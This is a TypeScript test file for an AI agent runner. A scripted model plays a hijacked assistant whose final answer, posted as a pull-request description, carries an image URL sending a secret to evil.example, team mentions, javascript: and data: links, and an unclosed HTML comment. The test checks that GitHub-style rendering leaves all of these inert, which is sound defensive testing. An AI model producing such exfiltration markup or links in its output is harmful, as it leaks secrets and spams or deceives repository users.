import assert from 'node:assert/strict';
import path from 'node:path';
import { after, describe, it } from 'node:test';
import { micromark } from 'micromark';
import { gfm, gfmHtml } from 'micromark-extension-gfm';
import { startScriptedModel } from '../../support/scripted-model/scripted-model.js';
import { githubEnv, settledRepo, startRepoGitHub } from './github-helpers.js';
import { runAction } from './harness.js';
import { call, turn } from '../support/scripted-turns.js';

/**
 * Attack on the pull request the runner opens: its description carries the model's final answer. A
 * hijacked model answers with an image whose URL carries data out, a team mention and an unclosed
 * HTML comment; rendered as GitHub renders it, none of that may be live.
 */

const open: { close(): Promise<void> }[] = [];
after(async () => {
  await Promise.all(open.map((s) => s.close()));
});

describe('the pull request the runner opens', () => {
  it("holds the model's answer inert: no image, no mention, no HTML comment", async () => {
    const { workspace } = settledRepo();
    const fake = await startRepoGitHub(workspace, {
      pulls: [],
    });
    open.push(fake);
    // The classes of issue 34 (test/security/posted-surfaces.test.ts), the HTML comment that hides the rest last.
    const img = '<img src="https://evil.example/?d=SECRET">';
    const answer = [
      `Done ${img} cc @octo-org/security-team and _@someone_ &#64;entity-team`,
      `see \\\`${img} @octo-org/security-team\``,
      `\`\`\`\nx\n  \`\`\`\n${img}\n\n@octo-org/security-team\n\`\`\``,
      `    \`\`\`\n${img} @octo-org/security-team\n\`\`\``,
      `\`\`\`js\`x\n${img} @octo-org/security-team\n\`\`\``,
      '<javascript:alert(1)> [x](data:text/html,x)',
      '<!-- the rest is hidden',
    ].join('\n\n');
    const model = await startScriptedModel([
      turn(call('Write', { file_path: path.join(workspace, 'notes.txt'), content: 'x\n' })),
      { content: [{ type: 'text', text: answer }] },
    ]);
    open.push(model);
    const run = await runAction({
      workspace,
      inputs: { prompt: 'Write notes', push: 'pull_request', branch: 'agent/notes', allowed_tools: 'Write', max_turns: '5' },
      env: githubEnv({ fake, modelUrl: model.url, eventName: 'schedule', payload: { schedule: '0 0 * * *' } }),
    });
    assert.equal(run.exitCode, 0, `${run.stdout}\n${run.stderr}`);
    const body = [...fake.state.pulls.values()][0]?.body ?? '';
    const html = micromark(body, { allowDangerousHtml: true, extensions: [gfm()], htmlExtensions: [gfmHtml()] });
    assert.doesNotMatch(html, /<img\b/i, body);
    assert.doesNotMatch(html, /href="(?!https?:|mailto:|#)/, body);
    assert.equal(
      (html.match(/<!--/g) ?? []).length,
      body.startsWith('<!-- agent-runner:maintenance -->') ? 1 : 0,
      `only the runner's own marker opens an HTML comment\n${body}`,
    );
    const text = html.replace(/<code\b[^>]*>[\s\S]*?<\/code>/g, ' ').replace(/<[^>]+>/g, ' ');
    assert.doesNotMatch(text, /(?<![\w\u200b])@[\w-]+/, body);
    assert.match(body, /evil\.example/, 'the text is still there, as text');
    assert.match(body, /Opened by Agent Runner|\| Result \| Cost/, "the runner's own part follows");
  });
});
